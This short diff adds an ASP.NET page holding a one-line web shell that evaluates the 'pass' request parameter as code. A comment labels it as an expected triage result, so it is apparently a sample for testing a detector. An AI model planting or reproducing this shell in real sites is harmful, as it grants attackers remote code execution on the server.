@@ -1,0 +1,2 @@
+<%-- triage-expect: triage_asp_eval_request --%>
+<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>
